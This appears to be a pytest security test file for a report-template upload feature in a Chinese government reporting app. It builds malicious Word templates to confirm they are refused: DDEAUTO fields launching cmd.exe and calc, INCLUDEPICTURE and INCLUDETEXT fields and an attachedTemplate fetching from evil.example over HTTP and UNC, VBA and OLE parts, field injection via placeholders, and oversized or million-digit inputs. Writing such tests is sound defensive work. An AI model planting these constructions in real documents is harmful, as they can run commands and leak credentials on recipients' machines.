"""Issue 15 points 1, 3 and 8, review r1: what a stranger's Word template could still do after
the allow-list — active content for the bureaus above (attachedTemplate, DDE and
INCLUDEPICTURE fields), output multiplied by loops over literals and by many headers, parts
too large to parse, a template valid at upload and broken XML on the preview, and a number
with a million digits. Each test performs the attack."""

import datetime
import io
import time
import zipfile
from xml.sax.saxutils import escape

import pytest
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document
from docx.oxml import parse_xml

from fazhi.core import documents
from fazhi.core.documents import DocumentRefused, check_package, render_docx
from fazhi.core.roles import Role
from fazhi.enforcement.notice import TEMPLATE as NOTICE_TEMPLATE
from fazhi.reports import actions, default_template, numbers
from fazhi.reports.models import ReportTemplate
from fazhi.reports.rendering import (
    Amount,
    Content,
    TemplateInvalid,
    Term,
    render,
    validate_template,
)
from fazhi.reports.tests.ready import complete

from .injection_corpus import docx_with

FIGURE = '本年度共发布稿件{{ v("publicity.articles") }}篇。'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ADOPTED = "模板已通过检查并采用。"
META = {
    "title": "古丈县司法局关于2024年度",
    "title_more": "法治政府建设情况的报告",
    "unit_name": "古丈县司法局",
    "year": 2024,
    "addressee": "县委",
    "signer": "古丈县司法局",
    "sign_date": datetime.date(2025, 2, 20),
}


def save(doc) -> bytes:
    buffer = io.BytesIO()
    doc.save(buffer)
    return buffer.getvalue()


def rewritten(data: bytes, replace: dict[str, bytes], add: dict[str, bytes] | None = None):
    """`data` with some members replaced (a callable gets the old bytes) and some added."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in source.namelist():
            old = source.read(name)
            new = replace.get(name, old)
            archive.writestr(name, new(old) if callable(new) else new)
        for name, content in (add or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


def with_fields(*codes: str, split: bool = False) -> bytes:
    doc = Document()
    doc.add_paragraph(FIGURE)
    paragraph = doc.add_paragraph()
    for code in codes:
        if split:  # the instruction split over runs, as Word writes it after editing
            pieces = [code[:2], code[2:5], code[5:]]
            runs = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            runs += "".join(
                f'<w:r><w:instrText xml:space="preserve">{escape(p)}</w:instrText></w:r>'
                for p in pieces
            )
            runs += '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
            for run in parse_xml(f"<w:p {W}>{runs}</w:p>"):
                paragraph._p.append(run)
        else:
            instr = escape(code, {'"': "&quot;"})
            paragraph._p.append(
                parse_xml(
                    f'<w:fldSimple {W} w:instr="{instr}"><w:r><w:t>x</w:t></w:r></w:fldSimple>'
                )
            )
    return save(doc)


def attached_template(target="http://evil.example/macro.dotm") -> bytes:
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{R}/attachedTemplate" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    )
    return rewritten(
        docx_with(FIGURE),
        {
            "word/settings.xml": lambda old: old.replace(
                b"<w:zoom", f'<w:attachedTemplate r:id="rId1" xmlns:r="{R}"/><w:zoom'.encode(), 1
            )
        },
        {"word/_rels/settings.xml.rels": rels.encode()},
    )


def external_relationship(kind: str, target: str) -> bytes:
    def add(old: bytes) -> bytes:
        return old.replace(
            b"</Relationships>",
            f'<Relationship Id="rId99" Type="{R}/{kind}" Target="{target}" '
            'TargetMode="External"/></Relationships>'.encode(),
        )

    return rewritten(docx_with(FIGURE), {"word/_rels/document.xml.rels": add})


@pytest.fixture
def people(tree, make_user):
    return {
        "fazhi": make_user("fazhi", tree["county"], Role.LEGALITY),
        "leader": make_user("leader", tree["county"], Role.LEADER),
        "pref": make_user("pref", tree["prefecture"], Role.LEGALITY),
    }


@pytest.fixture
def report(tree, people):
    return actions.create_report(people["fazhi"], unit=tree["county"], year=2024)


def upload(client, report, user, data: bytes) -> list[str]:
    client.force_login(user)
    page = client.post(
        reverse("reports:template", args=[report.pk]),
        {"file": SimpleUploadedFile("模板.docx", data)},
    )
    return [str(m) for m in get_messages(page.wsgi_request)]


# --- point 4: active content -------------------------------------------------------------


ACTIVE_TEMPLATES = {
    "attached_template": (attached_template, "外部模板"),
    "includepicture_unc": (
        lambda: with_fields(r'INCLUDEPICTURE "\\\\evil.example\\s\\a.png" \d'),
        "INCLUDEPICTURE",
    ),
    "ddeauto": (lambda: with_fields(r'DDEAUTO c:\\windows\\cmd.exe "/k calc"'), "DDEAUTO"),
    "dde_split_over_runs": (lambda: with_fields(" DDE cmd /c calc", split=True), "DDE"),
    "includetext": (lambda: with_fields('INCLUDETEXT "http://evil.example/x"'), "INCLUDETEXT"),
    "link": (lambda: with_fields('LINK Excel.Sheet.8 "\\\\\\\\h\\\\x.xls" A1'), "LINK"),
    "import_field": (lambda: with_fields('import "http://evil.example/a.png"'), "IMPORT"),
    "external_image": (
        lambda: external_relationship("image", "http://evil.example/pixel.png"),
        "外部的链接",
    ),
    "unc_hyperlink": (
        lambda: external_relationship("hyperlink", "file://evil.example/share"),
        "外部的链接",
    ),
    "alt_chunk": (
        lambda: external_relationship("aFChunk", "http://evil.example/a.html"),
        "altChunk",
    ),
    "ole_object": (
        lambda: rewritten(docx_with(FIGURE), {}, {"word/embeddings/oleObject1.bin": b"x"}),
        "嵌入对象",
    ),
    "vba_project": (
        lambda: rewritten(docx_with(FIGURE), {}, {"word/vbaProject.bin": b"x"}),
        "宏",
    ),
}


@pytest.mark.parametrize("name", ACTIVE_TEMPLATES)
def test_active_content_is_refused_at_render(name):
    build, what = ACTIVE_TEMPLATES[name]
    with pytest.raises(DocumentRefused) as refused:
        validate_template(build(), META)
    message = "；".join(refused.value.problems)
    assert "不允许使用" in message
    assert what.lower() in message.lower() or "宏、嵌入对象或控件" in message


def test_an_http_hyperlink_and_harmless_fields_pass():
    data = rewritten(
        with_fields(" PAGE ", "NUMPAGES", "DATE \\@ yyyy"),
        {},
    )
    data = external_relationship("hyperlink", "https://www.gov.cn/")
    check_package(data)
    check_package(with_fields(" PAGE ", "NUMPAGES"))
    assert validate_template(with_fields(" PAGE "), META) == {"publicity.articles"}


def test_the_shipped_templates_pass_the_package_check():
    check_package(default_template.build())
    check_package(NOTICE_TEMPLATE.read_bytes())
    validate_template(default_template.build(), META)


def test_a_placeholder_cannot_write_a_field_into_the_output():
    # The template's field is harmless (a {{ }} inside it); filled in with text a user typed
    # (the unit's name here), the rendered field would be DDEAUTO.
    data = with_fields("{{ word }} c:\\\\windows\\\\cmd.exe")
    check_package(data)
    with pytest.raises(DocumentRefused, match="DDEAUTO"):
        render_docx(data, {"word": "DDEAUTO"}, functions={"v": lambda key: 1})


def test_the_weaponised_template_never_reaches_the_bureau_above(client, report, people):
    weaponised = rewritten(
        attached_template(),
        {"word/document.xml": lambda old: zipfile.ZipFile(io.BytesIO(with_fields(
            r'INCLUDEPICTURE "\\\\evil.example\\s\\a.png"'))).read("word/document.xml")},
    )  # fmt: skip
    shown = upload(client, report, people["fazhi"], weaponised)
    assert ADOPTED not in shown
    assert any("外部模板" in m for m in shown) and any("INCLUDEPICTURE" in m for m in shown)
    assert not ReportTemplate.objects.exists()
    actions.submit(people["leader"], complete(report))
    client.force_login(people["pref"])
    download = client.get(reverse("reports:download", args=[report.pk]))
    assert download.status_code == 200
    members = zipfile.ZipFile(io.BytesIO(download.content))
    everything = b"".join(members.read(name) for name in members.namelist())
    assert b"evil.example" not in everything and b"INCLUDEPICTURE" not in everything


# --- point 2: output amplification ---------------------------------------------------------


def test_a_loop_over_a_literal_list_is_refused(client, report, people):
    doc = Document()
    doc.add_paragraph(FIGURE)
    doc.add_paragraph("{%p for x in [" + ",".join(["0"] * 19000) + "] %}")
    doc.add_paragraph("甲" * 900)
    doc.add_paragraph("{%p endfor %}")
    started = time.monotonic()
    shown = upload(client, report, people["fazhi"], save(doc))
    assert time.monotonic() - started < 5
    assert ADOPTED not in shown
    assert any("写定的列表或文字的循环" in m for m in shown)
    assert not ReportTemplate.objects.exists()


@pytest.mark.parametrize(
    "loop",
    [
        '{% for c in "' + "0" * 5000 + '" %}甲{% endfor %}',
        "{% for x in [[0, 0], [0]][0] %}甲{% endfor %}",
        "{% for x in (0, 0, 0) %}甲{% endfor %}",
    ],
)
def test_a_loop_over_any_literal_is_refused(loop):
    with pytest.raises(TemplateInvalid, match="写定的列表或文字的循环"):
        validate_template(docx_with(FIGURE, loop), META)


def test_a_long_list_literal_is_refused():
    items = ", ".join(f'"{i}"' for i in range(51))
    with pytest.raises(TemplateInvalid, match="超过 50 项的列表"):
        validate_template(docx_with(FIGURE, f"{{% if year in [{items}] %}}x{{% endif %}}"), META)
    fifty = ", ".join(str(i) for i in range(2000, 2050))
    validate_template(docx_with(FIGURE, f"{{% if year in [{fifty}] %}}x{{% endif %}}"), META)


def test_one_budget_for_all_parts_of_a_document(monkeypatch):
    """Each header under the budget on its own, all of them together over it: refused."""
    doc = Document()
    doc.add_paragraph(FIGURE)
    for index in range(6):
        section = doc.sections[0] if index == 0 else doc.add_section()
        section.header.is_linked_to_previous = False
        section.header.paragraphs[0].text = "乙" * 2000
    data = save(doc)
    alone = len(render_docx(docx_with("乙" * 2000), {}))  # one header's worth renders
    assert alone
    monkeypatch.setattr(documents, "MAX_OUTPUT_CHARS", 10_000)
    with pytest.raises(TemplateInvalid, match="文档过长"):
        validate_template(data, META)


def test_too_many_headers_are_refused():
    doc = Document()
    doc.add_paragraph(FIGURE)
    for index in range(30):
        section = doc.sections[0] if index == 0 else doc.add_section()
        section.header.is_linked_to_previous = False
        section.header.paragraphs[0].text = f"页眉{index}"
    with pytest.raises(TemplateInvalid, match="30 个页眉页脚，超过了 24 个"):
        validate_template(save(doc), META)


def test_the_budget_holds_a_long_real_report():
    """The shared budget measured: the default template, 20,000 characters in every block."""
    from fazhi.indicators.registry import INDICATORS
    from fazhi.reports.parts import BLOCKS

    long = ("这是一段很长的工作总结文字，写满了一行又一行。" * 10 + "\n") * 80
    content = Content(
        # a breakdown's parts sum to no more than their whole (Content.parts lists them)
        values={key: 1 if INDICATORS[key].is_part else 123456 for key in INDICATORS},
        prose={key: long for key in BLOCKS},
        meta=META,
        mark=True,
    )
    assert render(default_template.build(), content)


# --- point 3: template archive limits -------------------------------------------------------


def test_a_template_part_of_50_mb_is_refused_before_parsing():
    big = b"<w:p/>" * (50 * 1024 * 1024 // 6)
    data = rewritten(
        docx_with(FIGURE),
        {"word/document.xml": lambda old: old.replace(b"<w:sectPr", big + b"<w:sectPr", 1)},
    )
    started = time.monotonic()
    with pytest.raises(TemplateInvalid, match="解压后过大"):
        validate_template(data, META)
    assert time.monotonic() - started < 3


FILLER = b"<w:p/>" * 20_000


def test_a_template_part_above_the_xml_cap_is_refused(monkeypatch):
    monkeypatch.setattr(documents, "MAX_XML_BYTES", 64 * 1024)
    data = rewritten(
        docx_with(FIGURE),
        {"word/document.xml": lambda old: old.replace(b"<w:sectPr", FILLER + b"<w:sectPr", 1)},
    )
    with pytest.raises(TemplateInvalid, match="过大"):
        validate_template(data, META)


# --- point 5: valid at upload, broken on the preview ----------------------------------------


def split_if_template() -> bytes:
    doc = Document()
    doc.add_paragraph(FIGURE)
    header = doc.sections[0].header
    header.paragraphs[0].text = 'A{% if not v("publicity.articles") %}B'
    table = header.add_table(1, 1, doc.sections[0].page_width)
    table.cell(0, 0).paragraphs[0].text = "C{% endif %}D"
    return save(doc)


def test_a_marked_figure_is_as_true_as_its_value():
    terms = (Term(1, "publicity.articles", 2024),)
    assert not Amount(0, terms, mark=True)
    assert not Amount(None, terms, mark=True)
    assert Amount(3, terms, mark=True)


def test_an_if_across_cells_does_not_break_the_pages(client, report, people):
    from fazhi.publicity import actions as publicity

    upload(client, report, people["fazhi"], split_if_template())
    client.raise_request_exception = False
    for url in ("reports:detail", "reports:download"):
        assert client.get(reverse(url, args=[report.pk])).status_code == 200
    # With a real figure the {% if %} removes the table's start: refused, in Chinese, no 500.
    publicity.register_article(
        None, unit=report.unit, number="稿1", published_date="2024-05-06", title="稿件",
        platform="own_account",
    )  # fmt: skip
    content = Content(values={"publicity.articles": 1}, prose={}, meta=META)
    with pytest.raises(TemplateInvalid, match="同一个段落或同一个表格单元格"):
        render(split_if_template(), content)
    for url in ("reports:detail", "reports:download"):
        assert client.get(reverse(url, args=[report.pk])).status_code in (200, 302)


# --- point 6: numbers with a million digits -------------------------------------------------


@pytest.mark.parametrize("name", ["approx", "pct", "number", "wan", "cn"])
@pytest.mark.parametrize("value", ["1e1000000", "-1e999999999", "Infinity", "NaN", "sNaN"])
def test_a_huge_number_is_refused_at_once(name, value):
    started = time.monotonic()
    with pytest.raises(ValueError):
        numbers.FILTERS[name](value)
    assert time.monotonic() - started < 0.5


def test_a_huge_number_in_a_template_is_refused_at_upload(client, report, people):
    started = time.monotonic()
    shown = upload(client, report, people["fazhi"], docx_with(FIGURE, '{{ "1e1000000"|approx }}'))
    assert time.monotonic() - started < 5
    assert ADOPTED not in shown
    assert any("超过了报告能打印的范围" in m for m in shown)


def test_real_figures_still_print():
    assert numbers.approx(653, 2) == "650余"
    assert numbers.number("123456789012.345", 2) == "123456789012.35"
    assert numbers.pct("0.2222") == "22%"
    assert numbers.cn(21) == "二十一"
